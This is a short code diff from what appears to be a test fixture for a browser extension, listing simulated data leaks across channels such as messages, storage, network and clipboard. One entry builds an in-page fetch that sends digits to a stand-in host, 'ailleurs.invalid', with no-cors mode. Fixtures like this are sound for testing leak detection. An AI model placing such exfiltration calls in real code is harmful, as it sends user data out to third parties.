@@ -41,7 +41,7 @@ const stored = (area: string): Leak => ({
   ),
 });
 
-/** A leak for every channel that is watched. */
+/** A leak for every channel that is watched; those of the content script itself are in `traitor.ts`. */
 export const LEAKS: readonly Leak[] = [
   {
     channel: 'messages',
@@ -147,7 +147,10 @@ export const LEAKS: readonly Leak[] = [
   {
     channel: 'network',
     by: 'a host that is not there',
-    leak: inPage((digits) => `fetch('https://ailleurs.invalid/${digits}').catch(() => {})`),
+    leak: inPage(
+      (digits) =>
+        `fetch('https://ailleurs.invalid/${digits}', { mode: 'no-cors' }).catch(() => {})`,
+    ),
   },
   { channel: 'clipboard', by: 'a copy', leak: (digits, { watcher }) => watcher.copy(digits) },
 ];
